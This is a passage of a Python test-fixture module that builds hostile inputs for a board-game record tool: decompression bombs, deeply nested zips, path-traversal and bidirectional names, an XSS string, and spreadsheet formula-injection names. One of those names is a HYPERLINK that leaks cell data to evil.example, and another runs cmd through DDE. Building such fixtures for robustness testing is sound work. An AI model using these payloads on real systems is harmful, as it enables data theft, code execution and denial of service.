    *("dupes", "stats", "stats-json", "crosstable", "ratings", "web-pages"),
)


def unclosed_comments() -> bytes:
    """A comment never closed over many lines that look like tags after
    blank lines but are not whole tag lines, then games, every tenth with a
    comment never closed (each ended where the next game's tags begin)."""
    lines = '\n[Event "x"] is not a tag line\n' * (SIZES["movetext"] // 32)
    damaged = GOOD_HEXALIT.replace("2. A5XB2^", "{ never closed\n\n2. A5XB2^")
    games = [damaged if i % 10 == 0 else GOOD_HEXALIT for i in range(100)]
    return (BROKEN_HEXALIT.replace("2.", "{ 2.") + lines + "\n" + "\n".join(games)).encode()


def cut_off_after_many_actions() -> bytes:
    """A record cut off inside its last action after 40,000 actions (a full
    disk): the actions before the error are read, replayed and drawn."""
    moves = "1. B4W3 D7W1\n" * SIZES["cut_off_pairs"]
    return (HEXALIT + moves + "2. B2W").encode()


def errors_in_every_variation() -> bytes:
    """An error in each of 6,000 variations: a few readings, then the main
    line before the first error stands."""
    damaged = "(1... D7X) " * SIZES["siblings"]
    return (HEXALIT + "1. B4W3 D7W1 " + damaged + "2. A5XB2^ D7XD5 *\n").encode()


def glued_games() -> bytes:
    """100 games, each glued to the result line of the one before (as old
    tools write them): each result ends its game, the tags after it begin
    the next, and the writers cut the games inside those lines."""
    game = GOOD_HEXALIT.replace('[North "N"]', '[North "Jürgen"]').rstrip("\n")
    return (" ".join([game] * SIZES["glued_games"]) + "\n").encode()


def damaged_huepfer_shapes() -> bytes:
    """Hüpfer actions in shapes the notation does not have, after good ones."""
    return (
        HUEPFER
        + "1. a2-c2@c1 f5-d5@c5 2. c1-c3@b3 d6xb6-b8 3. a1-a3@a4 *\n\n"
        + HUEPFER
        + "1. a2-c2@c1 f5-d5@c5 2. i10-i8-g8xg6@f8 *\n"
    ).encode()


def offer_never_answered() -> bytes:
    """Records that end right after a cube offer: adjourned, and decided."""
    return (
        GOOD_HEXALIT.replace(" *", " 3. double 2 *")
        + "\n"
        + GOOD_HEXALIT.replace(" *", " 3. double 2 1-0")
    ).encode()


def big_tar_header(kind: bytes) -> Callable[[Path], str]:
    """A .tar.gz whose first header is a pax (``x``) or GNU long-name
    (``L``) header of SIZES["tar_header"] bytes, then a record."""

    def build(folder: Path) -> str:
        name = f"header-{kind.decode()}.tar.gz"
        size = SIZES["tar_header"]
        with open(folder / name, "wb") as raw:
            packer = zlib.compressobj(1, zlib.DEFLATED, 31)  # gzip
            raw.write(packer.compress(_tar_header("././@LongLink", size, kind)))
            chunk = (b"path=" + b"a" * (MIB - 5)) if kind == b"x" else b"a" * MIB
            for _ in range(size // MIB):
                raw.write(packer.compress(chunk))
            raw.write(packer.compress(b"\0" * (-size % 512)))
            record = BROKEN_HEXALIT.encode()
            raw.write(
                packer.compress(
                    _tar_header("a.hxl", len(record), b"0")
                    + record
                    + b"\0" * (-len(record) % 512)
                    + b"\0" * 1024
                )
            )
            raw.write(packer.flush())
        return name

    return build


def _tar_header(name: str, size: int, kind: bytes) -> bytes:
    header = bytearray(512)
    header[0 : len(name)] = name.encode()
    header[100:108] = b"0000644\0"
    header[108:116] = header[116:124] = b"0000000\0"
    header[124:136] = f"{size:011o}\0".encode()
    header[136:148] = b"00000000000\0"
    header[148:156] = b" " * 8
    header[156:157] = kind
    header[257:265] = b"ustar  \0"
    header[148:156] = f"{sum(header):06o}\0 ".encode()
    return bytes(header)


def mutated_archives(folder: Path) -> str:
    """Zip and tar archives of a few records with random bytes changed."""
    root = folder / "mutated"
    root.mkdir()
    rng = random.Random(17)
    # two games a member: drawing every good game as PNG is real work, not the point here
    records = [
        (f"g{i}.hxl", (GOOD_HEXALIT if i % 2 else BROKEN_HEXALIT).encode() * 2) for i in range(4)
    ]
    zipped, tarred = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in records:
            archive.writestr(name, data)
    with tarfile.open(fileobj=tarred, mode="w:gz") as tar:
        for name, data in records:
            _add(tar, name, data)
    for i in range(SIZES["mutated_archives"]):
        base, suffix = (zipped, ".zip") if i % 2 else (tarred, ".tar.gz")
        data = bytearray(base.getvalue())
        for _ in range(rng.randint(1, 6)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        (root / f"m{i:02d}{suffix}").write_bytes(bytes(data))
    return "mutated"


# ---------------------------------------------------------------- JSON for convert


def _json(document: object) -> Callable[[], bytes]:
    return lambda: json.dumps(document).encode()


def _record(**game: object) -> dict[str, object]:
    base: dict[str, object] = {
        "index": 1,
        "game": "Hexalit",
        "tags": [["Game", "Hexalit"]],
        "result": "*",
        "start": None,
        "end": None,
        "findings": [],
        "comments": [],
        "moves": [],
    }
    base.update(game)
    return {"format": "hexhop-record", "version": 1, "games": [base]}


_MOVE = {"kind": "action", "text": "B4W3", "glyphs": [], "comments": [], "variations": []}

JSON_DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "comment-not-string": _json(_record(comments=[5])),
    "move-comment-not-string": _json(_record(moves=[{**_MOVE, "comments": [{"a": 1}]}])),
    "tags-not-pairs": _json(_record(tags=[["Game"], 5, None])),
    "tags-object": _json(_record(tags={"Game": "Hexalit"})),
    "moves-string": _json(_record(moves="1. B4W3")),
    "move-text-number": _json(_record(moves=[{**_MOVE, "text": 12}])),
    "glyphs-number": _json(_record(moves=[{**_MOVE, "glyphs": 7}])),
    "variations-of-strings": _json(_record(moves=[{**_MOVE, "variations": ["x", 1]}])),
    "variation-without-moves": _json(_record(moves=[{**_MOVE, "variations": [{}]}])),
    "game-number": _json(_record(game=3)),
    "result-list": _json(_record(result=[1])),
    "games-object": _json({"format": "hexhop-record", "version": 1, "games": {"a": 1}}),
    "top-level-list": _json([1, 2, 3]),
    "long-number": lambda: (
        b'{"format": "hexhop-record", "version": 1' + b"0" * SIZES["digits"] + b', "games": []}'
    ),
    "deep-arrays": lambda: b"[" * SIZES["json_depth"] + b"]" * SIZES["json_depth"],
    "not-utf8": lambda: json.dumps(_record(comments=["x"])).encode().replace(b'"x"', b'"\xff"'),
    "control-characters": _json(
        _record(
            comments=[CONTROLS], tags=[["Game", "Hexalit"], ["Event", CONTROLS], [CONTROLS, "x"]]
        )
    ),
    "nan": lambda: b'{"format": "hexhop-record", "version": NaN, "games": []}',
}


def open_comment_members(folder: Path) -> str:
    """A zip whose first member ends in a comment never closed, then whole
    games: the writers put them one after another into one file."""
    start = '[Game "Hexalit"]\n\n1. B4W3 D7W1 2. A5XB2 {never closed\n'
    with zipfile.ZipFile(folder / "open.zip", "w") as archive:
        archive.writestr("a.hxl", start)
        archive.writestr("b.hxl", BROKEN_HEXALIT)
        archive.writestr("c.hxl", start.replace("{never closed", "*"))
    return "open.zip"


# ---------------------------------------------------------------- archives you can trust


def open_comment_before_game_3() -> bytes:
    """Eight games, a comment never closed before the third: it ends where
    the third game's tags begin, and every game is read
    (``test_every_game_after_an_open_comment_is_read`` counts them)."""
    games = [GOOD_HEXALIT.replace('"N"', f'"N{i}"') for i in range(1, 9)]
    games[2] = "{ a comment never closed\n\n" + games[2]
    return "\n".join(games).encode()


def utf16() -> bytes:
    return TRIGEO.encode("utf-16")  # with a byte order mark


def utf16_members(folder: Path) -> str:
    """A folder of UTF-16 records, little- and big-endian, alone and in a zip."""
    root = folder / "d"
    root.mkdir()
    little = TRIGEO.encode("utf-16-le")
    big = b"\xfe\xff" + GOOD_HEXALIT.encode("utf-16-be")
    (root / "le.trg").write_bytes(b"\xff\xfe" + little)
    (root / "be.hxl").write_bytes(big)
    with zipfile.ZipFile(root / "utf16.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("le.trg", b"\xff\xfe" + little)
        archive.writestr("be.hxl", big)
    return "d"


def surrogate_in_a_name() -> bytes:
    """A lone surrogate in UTF-8 (not UTF-8) in a player's name, in a
    Trigeo record whose captures are written with °."""
    return TRIGEO.encode().replace(b"Ute Sommer", b"Ute \xed\xa0\x80 Sommer")


def empty_beside_good(folder: Path) -> str:
    root = folder / "d"
    root.mkdir()
    (root / "a.trg").write_bytes(b"")
    (root / "b.trg").write_text(TRIGEO, "utf-8")
    return "d"


# a record whose cube is a superscript two: "²".isdigit(), but int("²") raises
SUPERSCRIPT_CUBE = '[Game "Hexalit"]\n[Position "N: B4=1; S: E4=1; cube: \u00b2"]\n\n*\n'


def superscript_beside_good(folder: Path) -> str:
    """A folder of the superscript record and a good one: every command
    reads past the first and reports (or uses) the second."""
    root = folder / "d"
    root.mkdir()
    (root / "sup.hxl").write_text(SUPERSCRIPT_CUBE, "utf-8")
    shutil.copy(KASSEL, root / "hexalit-kassel-1998.hxl")
    return "d"


def three_spellings(folder: Path) -> str:
    """A folder ``sm`` of records and an archive, for ``sm``, ``./sm`` and
    its absolute path in one run of index."""
    root = folder / "sm"
    (root / "sub").mkdir(parents=True)
    (root / "a.hxl").write_text(GOOD_HEXALIT, "utf-8")
    (root / "sub" / "b.trg").write_text(TRIGEO, "utf-8")
    with zipfile.ZipFile(root / "c.zip", "w") as archive:
        archive.writestr("c.hxl", BROKEN_HEXALIT)
    return "sm"


def names_to_spell() -> bytes:
    """Players' names a file name spells out: capitals with umlauts, a
    name whose UTF-8 was read as Windows-1252, letters without a
    decomposition, a device name of Windows, and a name of slashes only."""
    names = [("MÜLLER", "BÄCKER"), ("MÃ¼ller", "Ødegård"), ("Con", "../.."), ("Müller", "Weiß")]
    return "\n".join(
        f'[Game "Hexalit"]\n[North "{north}"]\n[South "{south}"]\n\n1. B4W3 *\n'
        for north, south in names
    ).encode()


def input_in_an_archive(folder: Path) -> str:
    """``arc.zip`` holding ``in.hpf``: the command writes over the archive
    that holds its input."""
    with zipfile.ZipFile(folder / "arc.zip", "w") as archive:
        archive.write(BREMEN, "in.hpf")
        archive.write(BREMEN, "other.hpf")
    return "arc.zip"


def beside_the_outputs(folder: Path) -> str:
    """Inputs that ``prepare`` copies into the output folder, each under a
    name the command would choose for what it writes: ``split``'s
    ``in-1.trg``, a record named ``game001.html``, ``puzzle001.hxl``."""
    # no players, no date: split names the games after their file, in-1.trg …
    two = ('[Game "Trigeo"]\n\n1. C7°D7 E6°D7 *\n\n[Game "Trigeo"]\n\n1. C7°D7 *\n').encode()
    (folder / "in.trg").write_bytes(two)
    (folder / "in-1.trg").write_bytes(two)
    shutil.copy(KASSEL, folder / "game001.html")
    shutil.copy(KASSEL, folder / "puzzle001.hxl")
    return "in.trg"


def _copy_into_output(*names: str) -> Callable[[Path, Path], None]:
    def prepare(folder: Path, out: Path) -> None:
        for name in names:
            shutil.copy(folder / name, out / name)

    return prepare


def _copy(source: Path, name: str) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        shutil.copy(source, folder / name)
        return name

    return build


# what split, render (SVG, HTML) and puzzles write first for kassel.hxl
TAKEN = (
    "games/1998-03-14_Berger-Keller_r4.hxl",
    "game001-ply000.svg",
    "game001.html",
    "p/puzzle001.hxl",
    "p/puzzle001.svg",
)


def dangling_links(folder: Path, out: Path) -> None:
    """Symbolic links that lead nowhere, under the names a command writes
    first: each must be there, unchanged, afterwards."""
    for name in TAKEN:
        (out / name).parent.mkdir(exist_ok=True)
        os.symlink(folder / "gone", out / name)


def long_member_name(folder: Path) -> str:
    """A zip member named with 80 four-byte characters (320 bytes, more than
    a file name holds), beside a short one."""
    with zipfile.ZipFile(folder / "long.zip", "w") as archive:
        archive.write(KASSEL, "\U00020000" * 80 + ".hxl")
        archive.write(KASSEL, "b.hxl")
    return "long.zip"


def large_zip(folder: Path) -> str:
    """Members that are the same valid game of 8 MB of comments (each just
    under the limit of one comment), 190 MB unpacked from 200 kB: merge
    --dedupe writes it once, and must not hold every member."""
    comments = ("{" + "x" * 99_000 + "}\n") * 80
    game = GOOD_HEXALIT.replace("D7W1", "D7W1 " + comments)
    with zipfile.ZipFile(folder / "large.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(SIZES["large_zip_members"]):
            archive.writestr(f"m{i:02d}.hxl", game)
    return "large.zip"


FOREVER = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"


def crafted_index(*statements: str | Callable[[], str]) -> Callable[[Path], str]:
    """An index of ``games/`` made by hexhop, then changed by ``statements``
    (more of them in test_index_crafted.py)."""

    def build(folder: Path) -> str:
        from click.testing import CliRunner

        from hexhop.cli.main import cli

        games = folder / "games"
        games.mkdir()
        (games / "a.hxl").write_text(GOOD_HEXALIT, "utf-8")
        (games / "b.trg").write_text(TRIGEO, "utf-8")
        made = CliRunner().invoke(cli, ["index", str(games), "--db", str(folder / "x.sqlite")])
        assert made.exit_code == 0, made.output
        connection = sqlite3.connect(folder / "x.sqlite", isolation_level=None)
        try:
            for statement in statements:
                connection.execute(statement() if callable(statement) else statement)
        finally:
            connection.close()
        return "x.sqlite"

    return build


#: a ply that missed a win at once and allowed a win in 2: two notes on one ply
BOTH_NOTES = (
    '[Game "Hüpfer"]\n[Board "6x6"]\n'
    '[Position "R: a1 a3 b2 b3 c2 c3 c4; T: d6 e5 e6 f3 f4 f5 f6; reserve: 1/0; turn: R"]\n'
    "\n1. b2-b4-d4@e4 *\n"
)


def analysed_index(*statements: str, depth: str = "1") -> Callable[[Path], str]:
    """An index of ``games/`` analysed by hexhop (``index --analyse``), then
    changed by ``statements``."""

    def build(folder: Path) -> str:
        from click.testing import CliRunner

        from hexhop.cli.main import cli

        games = folder / "games"
        games.mkdir()
        (games / "a.hxl").write_text(GOOD_HEXALIT, "utf-8")
        (games / "b.trg").write_text(TRIGEO, "utf-8")
        shutil.copy(KASSEL, games / "kassel.hxl")
        (games / "both.hpf").write_text(BOTH_NOTES, "utf-8")
        db = str(folder / "x.sqlite")
        made = CliRunner().invoke(
            cli, ["index", str(games), "--db", db, "--analyse", "--depth", depth]
        )
        assert made.exit_code == 0, made.output
        connection = sqlite3.connect(db, isolation_level=None)
        try:
            for statement in statements:
                connection.execute(statement)
        finally:
            connection.close()
        return "x.sqlite"

    return build


STORED_ANALYSIS_COMMANDS = (
    "find-missed-win-db",
    "find-blunder-db",
    "stats-missed-db",
    "puzzles-db",
    "web-pages",  # a game page: its notes in words, the critical moments, the lines
)


def _hexhops_text_of_files() -> str:
    """``files`` as hexhop creates it (written back over a loose table)."""
    from hexhop.archive.index import SCHEMA

    made = SCHEMA.split("CREATE TABLE files (")[1].split(";")[0]
    original = f"CREATE TABLE files ({made}"
    return f"UPDATE sqlite_master SET sql = '{original}' WHERE name = 'files'"


def globs_folder(folder: Path) -> str:
    root = folder / "d"
    root.mkdir()
    many = "a" * 300  # a name and an event for a matcher that backtracks to try
    game = GOOD_HEXALIT.replace('"N"', f'"{many}"').replace('[Result "*"]', f'[Event "{many}"]')
    (root / "a.hxl").write_text(game, "utf-8")
    (root / "b.trg").write_text(TRIGEO, "utf-8")
    return "d"


NAMES_COMMANDS = (
    *("players-names", "players-names-json", "find-names", "index-names", "dupes-names"),
    "stats-names",
)


def _names_case(names: Callable[[], bytes]) -> Callable[[Path], str]:
    """A folder of games whose players the names file ``names()`` names
    (given with --names, and as hexhop-names.txt beside the games)."""

    def build(folder: Path) -> str:
        root = folder / "club"
        root.mkdir()
        (root / "a.hxl").write_bytes(NAMED_GAMES.encode())
        (folder / "names.txt").write_bytes(names())
        (root / "hexhop-names.txt").write_bytes(names())
        return "club"

    return build


NAMED_GAMES = "\n".join(
    GOOD_HEXALIT.replace('"N"', f'"{north}"').replace('"S"', f'"{south}"')
    for north, south in (("Anna Müller", "MUELLER, ANNA"), ("Søren", "Yılmaz"), ("A. Müller", "n"))
)


def huge_names() -> bytes:
    """Twice the names file hexhop reads (8 MiB): one player, spellings on and on."""
    spellings = b"\n".join(b"    Spelling %d" % i for i in range(850_000))
    return b"Anna M\xc3\xbcller\n" + spellings + b"\n"


def many_names() -> bytes:
    """A names file just under the bound: 110,000 players with conditions."""
    return "".join(
        f'Player {i}\n    P{i} Spelt  [Site "Kassel*"] [Event "*{i}*"]\n' for i in range(110_000)
    ).encode()


BAD_NAMES = (
    b"    Anna Mueller\n",  # a spelling before any player
    b"Anna M\xc3\xbcller\n    Muller [Site Kassel]\n",  # a condition without quotes
    b"Anna\n    Ann\nBerta\n    Ann\n",  # one spelling for two players
    b'Anna\n    [Site "K*"]\n',  # a condition without a spelling
    b"\xff\xfe\x00bad",  # not UTF-8
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",  # a picture
)


def names_fifo(folder: Path) -> str:
    """A FIFO nobody writes to, given with --names and lying beside the games
    as hexhop-names.txt (which every command then passes by)."""
    root = folder / "club"
    root.mkdir()
    (root / "a.hxl").write_text(NAMED_GAMES, "utf-8")
    os.mkfifo(folder / "names.fifo")
    os.mkfifo(root / "hexhop-names.txt")
    return "club"


def colors_fifo(folder: Path) -> str:
    (folder / "a.hxl").write_text(GOOD_HEXALIT, "utf-8")
    os.mkfifo(folder / "colors.fifo")
    return "a.hxl"


def bidi_names() -> bytes:
    """Control characters and bidirectional overrides in names, an event and
    a comment, twice (for dupes), and a Trigeo game beyond ASCII."""
    game = (
        f'[Game "Hexalit"]\n[North "Nina {BIDI}"]\n[South "Nora{BIDI}x"]\n'
        f'[Event "{BIDI}"]\n[Result "*"]\n\n1. B4W3 {{{BIDI}}} D7W1 *\n'
    )
    trigeo = TRIGEO.replace("Karl", f"Karl{BIDI}").replace("Ute", "Jürgen")
    return "\n".join((game, game, trigeo)).encode()


#: Names a spreadsheet would run as formulas (OWASP's examples), as
#: players, an event and a site
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
)


def formula_names() -> bytes:
    """Two games between players named as formulas, in an event so named."""
    tag = [name.replace('"', '\\"') for name in FORMULAS]
    return "".join(
        f'[Game "Hexalit"]\n[Event "{tag[0]}"]\n[Site "{tag[3]}"]\n'
        f'[North "{tag[i]}"]\n[South "{tag[i + 1]}"]\n[Result "1-0"]\n\n1. B4W3 1-0\n\n'
        for i in (0, 2)
    ).encode()


#: the commands of a player as a person and a game counted once
PEOPLE_COMMANDS = ("crosstable-people", "ratings-html", "ratings-pdf", "stats-keep-duplicates")


def hostile_names_file(folder: Path) -> str:
    """An archive (bidirectional overrides and control characters in the
    names, a game twice) beside a names file of such names, conditions and
    ten thousand players of the same spelling apart by a condition."""
    (folder / "d").mkdir()
    (folder / "d" / "a.hxl").write_bytes(bidi_names())
    lines = [f"Nina {BIDI} \x1b[2J", f"    Nora{BIDI}x", f'    Nina {BIDI}  [Event "{BIDI}*"]']
    lines += [f'P{i}\n    Jürgen  [Site "S{i}*"] [Event "?"]' for i in range(10_000)]
    (folder / "d" / "hexhop-names.txt").write_text("\n".join(lines) + "\n", "utf-8")
    return "d"


def broken_names_file(folder: Path) -> str:
    """A names file whose first line is a spelling without a player: every
    command that names players refuses it at its line and column."""
    (folder / "d").mkdir()
    (folder / "d" / "a.hxl").write_bytes(bidi_names())
    (folder / "d" / "hexhop-names.txt").write_bytes(b"   \xff spelling first\n")
    return "d"


def ring() -> bytes:
    """An event of ``ring_players`` players in a ring, each playing the next
    (P0-P1, P1-P2, ...): a crosstable with a row and a column each grows
    with the square of the players, the games only with the players."""
    players = SIZES["ring_players"]
    return "".join(
        f'[Game "Hexalit"]\n[Event "Big"]\n[North "P{i}"]\n[South "P{(i + 1) % players}"]\n'
        '[Result "1-0"]\n\n1-0\n\n'
        for i in range(players)
    ).encode()


def hostile_article() -> bytes:
    """Markup, an end of a style, bidirectional and control characters in
    the tags and comments that an article prints, and a diagram marker
    after every action."""
    evil = "<script>alert(1)</script></style><img src=x onerror=alert(2)> &amp; url(http://x/)"
    evil += BIDI + CONTROLS.replace("\x00", "")
    game = (
        f'[Game "Hexalit"]\n[Event "{evil}"]\n[North "{evil}"]\n[South "S"]\n'
        f'[Annotator "{evil}"]\n[Result "*"]\n\n{{{evil} "q"}} 1. B4W3 {{#}} {{{evil}}} '
        f"(1. B4W1 {{{evil}}} {{#}}) D7W1 {{#}} 2. A5XB2^ {{#}} D7XD5 {{#}} *\n"
    )
    return game.encode()


def junk_after_good_games() -> bytes:
    """Good games with 1 MiB of bytes that are not text between them, in
    lines of every length (each line not UTF-8 is read as Windows-1252 on
    its own: the work is linear in the lines)."""
    rng = random.Random(35)
    junk = bytes(b for b in rng.randbytes(MIB) if b not in (0, 13))
    good = GOOD_HEXALIT.replace('"N"', '"Jürgen Müller"').encode()
    return good + junk + b"\n\n" + good + b"\xff\n" * (MIB // 4) + b"\n" + good


def _zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def deep_zips(folder: Path) -> str:
    """Zips inside zips 40 deep, each with a record beside the next zip
    (the ones past the third are named as not read), and a zip holding a
    copy of itself as it was (a quine goes on as deep as it likes)."""
    inner = _zip_of({"last.hxl": GOOD_HEXALIT.encode()})
    for depth in range(40):
        inner = _zip_of({f"d{depth}.hxl": BROKEN_HEXALIT.encode(), f"z{depth}.zip": inner})
    itself = _zip_of({"self.zip": b""})
    for _ in range(5):
        itself = _zip_of({"self.zip": itself, "a.hxl": GOOD_HEXALIT.encode()})
    (folder / "deep.zip").write_bytes(_zip_of({"nest.zip": inner, "self.zip": itself}))
    return "deep.zip"


def bomb_in_zip(folder: Path) -> str:
    """A zip holding a zip that holds a 2 GiB gzip bomb (a.hxl.gz) and a
    tar.gz that holds another: each stops at the member limit, and all
    that is unpacked counts against the outer archive's limit."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        _add(archive, "b.hxl.gz", gzip_bomb(2048 * MIB))
        _add(archive, "c.hxl", GOOD_HEXALIT.encode())
    inner = _zip_of({"a.hxl.gz": gzip_bomb(2048 * MIB), "t.tar.gz": buffer.getvalue()})
    (folder / "bomb.zip").write_bytes(_zip_of({"inner.zip": inner, "d.hxl": GOOD_HEXALIT.encode()}))
    return "bomb.zip"


def gzip_record() -> bytes:
    return gzip.compress((GOOD_HEXALIT + "\n" + BROKEN_HEXALIT).encode())


def compressed_tar(mode: str, name: str) -> Callable[[Path], str]:
    def build(folder: Path) -> str:
        with tarfile.open(folder / name, mode) as archive:
            _add(archive, "a.hxl", GOOD_HEXALIT.encode())
            _add(archive, "b.trg", TRIGEO.encode())
            _add(archive, "c.hxl", BROKEN_HEXALIT.encode())
        return name

    return build


# ---------------------------------------------------------------- all cases

CASES: list[Case] = [
    Case("blank-run", _file("a.hxl", blank_run), notes="blanks and comments read in linear time"),
    Case(
        "blank-lines", _file("a.hxl", blank_lines), notes="blanks and comments read in linear time"
    ),
    Case(
        "comment-run", _file("a.hxl", comment_run), notes="blanks and comments read in linear time"
    ),
    Case(
        "blank-run-stdin",
        _stdin("a.hxl", blank_run),
        ("check-text", "fmt", "convert-json", "show", *ARCHIVE_COMMANDS),
        stdin="a.hxl",
        notes="blanks and comments read in linear time",
    ),
    Case("huge-tag-value", _file("a.hxl", huge_tag_value), notes="limits applied while reading"),
    Case(
        "huge-movetext",
        _file("a.hxl", huge_movetext),
        ONE_PER_READER,
        notes="limits applied while reading",
    ),
    Case("huge-path", _file("a.hpf", huge_path), notes="limits applied while reading"),
    Case(
        "many-siblings",
        _file("a.hxl", many_siblings),
        ONE_PER_READER,
        notes="many variations within the limits",
    ),
    Case(
        "findings-line",
        _file("a.hxl", findings_line),
        ONE_PER_READER,
        notes="a finding shows a window of its line",
    ),
    Case(
        "huge-player-name",
        _file("a.hxl", huge_player_name),
        notes="a huge name costs no more than the limit",
    ),
    Case("newlines", _file("a.hxl", newlines), ONE_PER_READER, notes="blank lines stay cheap"),
    Case("newline-zip", newline_zip, ONE_PER_READER, notes="blank lines stay cheap"),
    Case("newline-tar", newline_tar, ONE_PER_READER, notes="blank lines stay cheap"),
    Case(
        "long-move-number",
        _file("a.hxl", long_move_number),
        ONE_PER_READER,
        notes="long numbers are no internal error",
    ),
    Case(
        "long-cube-value",
        _file("a.hxl", long_cube_value),
        ONE_PER_READER,
        notes="long numbers are no internal error",
    ),
    Case(
        "long-numbers-in-tags",
        _file("a.hpf", long_numbers_in_tags),
        notes="long numbers are no internal error",
    ),
    Case(
        "control-characters",
        _file("a.hxl", control_characters),
        ONE_PER_READER,
        notes="control characters shown escaped",
    ),
    Case(
        "control-characters-text",
        _file("a.hxl", control_characters_text),
        ONE_PER_READER,
        notes="control characters shown escaped: names, events and comments on the terminal",
    ),
    Case(
        "not-utf8",
        _file("a.hxl", not_utf8),
        ONE_PER_READER,
        notes="bytes that are not UTF-8, shown escaped",
    ),
    Case("fifo-in-folder", fifo_in_folder, notes="nothing blocks on FIFOs and devices"),
    Case("fifo-named-zip", fifo_named_zip, notes="nothing blocks on FIFOs and devices"),
    Case("fifo-record", fifo_record, notes="nothing blocks on FIFOs and devices"),
    Case(
        "device-in-folder",
        device_in_folder,
        needs_root=True,
        notes="nothing blocks on FIFOs and devices",
    ),
    Case("dev-zero", dev_zero, notes="nothing blocks on FIFOs and devices"),
    Case(
        "dev-zero-stdin",
        stdin_marker,
        ("check-text", "fmt", "convert-json", "show", "moves", *ARCHIVE_COMMANDS),
        stdin="/dev/zero",
        notes="nothing blocks on FIFOs and devices",
    ),
    Case(
        "odd-file-names",
        odd_names,
        notes="names that are not UTF-8 or hold control characters, shown escaped",
    ),
    Case(
        "odd-member-names",
        odd_member_names,
        notes="names that are not UTF-8 or hold control characters, shown escaped",
    ),
    Case("corrupt-zip", corrupt_zip, notes="a damaged member is one error"),
    Case("corrupt-tars", corrupt_tars, notes="a damaged member is one error"),
    Case("mutated-archives", mutated_archives, notes="a damaged member is one error"),
    Case(
        "lzma-dictionary",
        _file("a.tar", lzma_dictionary),
        notes="a damaged member is one error (found by the fuzzer)",
    ),
    Case("pax-header", big_tar_header(b"x"), ONE_PER_READER, notes="limits applied while reading"),
    Case(
        "gnu-long-name", big_tar_header(b"L"), ONE_PER_READER, notes="limits applied while reading"
    ),
    Case("gzip-bomb", _file("a.hxl.gz", lambda: gzip_bomb(2048 * MIB)), ONE_PER_READER),
    Case(
        "junk-after-good-games",
        _file("a.hxl", junk_after_good_games),
        notes="the encoding is decided where the bytes are not UTF-8, line by line; "
        "the writers copy a game read through a guess as it was read",
    ),
    Case(
        "named-encoding",
        _file("a.hxl", lambda: junk_after_good_games().decode("latin-1").encode("utf-16-le")),
        tuple(name for name in CASE_COMMANDS if name.endswith("-encoding")),
        notes="--encoding utf-16 on a file without a byte order mark, junk and all",
    ),
    Case(
        "deep-zips",
        deep_zips,
        ONE_PER_READER,
        notes="archives inside archives are read 3 deep; deeper ones are named",
    ),
    Case(
        "bomb-in-zip",
        bomb_in_zip,
        ONE_PER_READER,
        notes="an archive inside an archive reads under the outer one's limits",
    ),
    Case("unclosed-comments", _file("a.hxl", unclosed_comments), ONE_PER_READER),
    Case(
        "sibling-lines",
        _file("a.hxl", sibling_lines),
        ONE_PER_READER,
        notes="a record under 1 MiB and every limit stays within the memory bound",
    ),
    # every command reads under the same default limit of games per file:
    # those that write, draw or analyse every game refuse such a file before
    # its first game; those that report on the games read up to the limit
    Case(
        "too-many-games",
        _file("a.hxl.gz", empty_games),
        tuple(name for name in RECORD_COMMANDS if name not in READ_UP_TO_THE_LIMIT),
        notes="the default --max-games holds for every command",
    ),
    Case(
        "too-many-games-read-to-the-limit",
        _file("a.hxl.gz", empty_games),
        READ_UP_TO_THE_LIMIT,
        notes="the default --max-games holds for every command",
        seconds=60.0,
    ),
    Case(
        "names-to-spell",
        _file("names.hxl", names_to_spell),
        ("split", "merge", "dupes", "find-position", "web-pages"),
        notes="one writer, one file name from tags",
    ),
    Case(
        "open-comment-before-a-member",
        open_comment_members,
        ("split", "merge", "dupes", "find-position"),
        notes="written games read back as written, or nothing written",
    ),
    Case(
        "open-comment-before-game-3",
        _file("eight.hxl", open_comment_before_game_3),
        notes="a comment never closed ends where the next game begins",
    ),
    Case(
        "cut-off-after-many-actions",
        _file("a.hxl", cut_off_after_many_actions),
        ONE_PER_READER,
        notes="the actions before a syntax error stand",
    ),
    Case(
        "errors-in-every-variation",
        _file("a.hxl", errors_in_every_variation),
        notes="the actions before a syntax error stand",
    ),
    Case(
        "glued-games",
        _file("a.hxl", glued_games),
        notes="a result followed by the next game's tags ends its game",
    ),
    Case(
        "damaged-huepfer-shapes",
        _file("a.hpf", damaged_huepfer_shapes),
        notes="the actions before a syntax error stand",
    ),
    Case(
        "offer-never-answered",
        _file("a.hxl", offer_never_answered),
        notes="an offer is answered at once",
    ),
    Case("utf16-bom", _file("a.trg", utf16), notes="UTF-16 read as check reads it"),
    Case(
        "utf16-members",
        utf16_members,
        tuple(ARCHIVE_COMMANDS),
        notes="UTF-16 read as check reads it",
    ),
    Case(
        "index-three-spellings",
        three_spellings,
        ("index-three-spellings",),
        notes="one file is one row of the index, whatever path reaches it",
    ),
    Case(
        "surrogate-in-a-name",
        _file("a.trg", surrogate_in_a_name),
        notes="one bad byte or empty file changes no other verdict",
    ),
    Case(
        "empty-beside-good",
        empty_beside_good,
        notes="one bad byte or empty file changes no other verdict",
    ),
    Case("superscript-beside-good", superscript_beside_good, notes="numbers: ASCII digits only"),
    Case(
        "output-is-the-input",
        _copy(BREMEN, "in.hpf"),
        (
            "merge-over-input",
            "convert-over-input",
            "find-export-over-input",
            "dupes-export-over-input",
            "analyse-annotate-input",
        ),
        notes="no command writes over its input",
    ),
    Case(
        "output-is-the-archive",
        input_in_an_archive,
        (
            "analyse-annotate-archive",
            "merge-over-input",
            "find-export-over-input",
            "dupes-export-over-input",
        ),
        notes="no command writes over its input",
    ),
    Case(
        "inputs-in-the-output-folder",
        beside_the_outputs,
